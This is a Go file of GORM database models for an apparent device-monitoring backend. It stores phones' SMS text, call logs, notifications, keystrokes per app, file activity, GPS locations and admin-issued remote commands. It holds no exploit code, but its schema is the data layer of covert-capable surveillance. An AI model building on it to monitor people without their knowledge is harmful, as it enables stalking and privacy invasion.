package models

import (
	"time"

	"gorm.io/datatypes"
)

type CommandStatus string

const (
	CommandStatusPending   CommandStatus = "pending"
	CommandStatusSent      CommandStatus = "sent"
	CommandStatusCompleted CommandStatus = "completed"
	CommandStatusFailed    CommandStatus = "failed"
)

// User is an admin console account. HashedPassword is nil for accounts
// provisioned through Firebase login.
type User struct {
	ID             uint      `gorm:"primaryKey" json:"id"`
	Email          string    `gorm:"uniqueIndex;not null" json:"email"`
	HashedPassword *string   `json:"-"`
	FullName       string    `json:"full_name"`
	FirebaseUID    *string   `gorm:"uniqueIndex" json:"firebase_uid,omitempty"`
	IsActive       bool      `gorm:"default:true" json:"is_active"`
	IsSuperuser    bool      `json:"is_superuser"`
	IsVerified     bool      `json:"is_verified"`
	CreatedAt      time.Time `json:"created_at"`
}

// Device identifiers are client-generated and never change after creation.
// Optional attributes are pointers so partial updates can tell absent apart
// from zero.
type Device struct {
	ID               string    `gorm:"primaryKey" json:"id"`
	Manufacturer     string    `json:"manufacturer"`
	Model            string    `json:"model"`
	OSVersion        string    `json:"os_version"`
	FirebaseToken    *string   `json:"firebase_token,omitempty"`
	LastSeen         time.Time `json:"last_seen"`
	CreatedAt        time.Time `json:"created_at"`
	BatteryLevel     *int      `json:"battery_level,omitempty"`
	IsCharging       *bool     `json:"is_charging,omitempty"`
	NetworkType      *string   `json:"network_type,omitempty"`
	AvailableStorage *int      `json:"available_storage,omitempty"`
	TotalStorage     *int      `json:"total_storage,omitempty"`
}

type DeviceLocation struct {
	ID        uint      `gorm:"primaryKey" json:"id"`
	DeviceID  string    `gorm:"not null;index:idx_device_locations_device_ts,priority:1" json:"device_id"`
	Latitude  float64   `gorm:"not null" json:"latitude"`
	Longitude float64   `gorm:"not null" json:"longitude"`
	Accuracy  *float64  `json:"accuracy,omitempty"`
	Timestamp time.Time `gorm:"index:idx_device_locations_device_ts,priority:2" json:"timestamp"`
}

type SmsLog struct {
	ID          uint      `gorm:"primaryKey" json:"id"`
	DeviceID    string    `gorm:"not null;index:idx_sms_logs_device_ts,priority:1" json:"device_id"`
	PhoneNumber string    `gorm:"not null" json:"phone_number"`
	ContactName *string   `json:"contact_name,omitempty"`
	Message     string    `gorm:"type:text;not null" json:"message"`
	Type        string    `gorm:"not null" json:"type"` // 'sent' or 'received'
	Timestamp   time.Time `gorm:"index:idx_sms_logs_device_ts,priority:2" json:"timestamp"`
}

type CallLog struct {
	ID          uint      `gorm:"primaryKey" json:"id"`
	DeviceID    string    `gorm:"not null;index:idx_call_logs_device_ts,priority:1" json:"device_id"`
	PhoneNumber string    `gorm:"not null" json:"phone_number"`
	ContactName *string   `json:"contact_name,omitempty"`
	Type        string    `gorm:"not null" json:"type"` // 'incoming', 'outgoing', 'missed'
	Duration    *int      `json:"duration,omitempty"`   // seconds
	Timestamp   time.Time `gorm:"index:idx_call_logs_device_ts,priority:2" json:"timestamp"`
	Status      *string   `json:"status,omitempty"` // 'answered', 'rejected', ...
}

type NotificationLog struct {
	ID        uint      `gorm:"primaryKey" json:"id"`
	DeviceID  string    `gorm:"not null;index:idx_notification_logs_device_ts,priority:1" json:"device_id"`
	AppName   string    `gorm:"not null" json:"app_name"`
	Title     *string   `json:"title,omitempty"`
	Text      *string   `gorm:"type:text" json:"text,omitempty"`
	Timestamp time.Time `gorm:"index:idx_notification_logs_device_ts,priority:2" json:"timestamp"`
}

type KeyLog struct {
	ID          uint      `gorm:"primaryKey" json:"id"`
	DeviceID    string    `gorm:"not null;index:idx_key_logs_device_ts,priority:1" json:"device_id"`
	Application string    `gorm:"not null" json:"application"`
	Text        string    `gorm:"type:text;not null" json:"text"`
	Timestamp   time.Time `gorm:"index:idx_key_logs_device_ts,priority:2" json:"timestamp"`
}

type FileLog struct {
	ID        uint      `gorm:"primaryKey" json:"id"`
	DeviceID  string    `gorm:"not null;index:idx_file_logs_device_ts,priority:1" json:"device_id"`
	Path      string    `gorm:"not null" json:"path"`
	Operation string    `gorm:"not null" json:"operation"` // 'read', 'write', 'delete'
	Size      *int      `json:"size,omitempty"`            // bytes
	Timestamp time.Time `gorm:"index:idx_file_logs_device_ts,priority:2" json:"timestamp"`
}

// Command is one admin-to-device instruction. The row is created as
// 'pending' before any delivery attempt so history survives push failures;
// the device closes the loop through the response endpoint.
type Command struct {
	ID        uint              `gorm:"primaryKey" json:"id"`
	DeviceID  string            `gorm:"not null;index" json:"device_id"`
	UserID    uint              `gorm:"not null" json:"user_id"`
	Command   string            `gorm:"not null" json:"command"`
	Params    datatypes.JSONMap `json:"params"`
	Status    CommandStatus     `gorm:"not null;default:'pending'" json:"status"`
	Response  *string           `gorm:"type:text" json:"response,omitempty"`
	CreatedAt time.Time         `json:"created_at"`
	UpdatedAt time.Time         `json:"updated_at"`
}
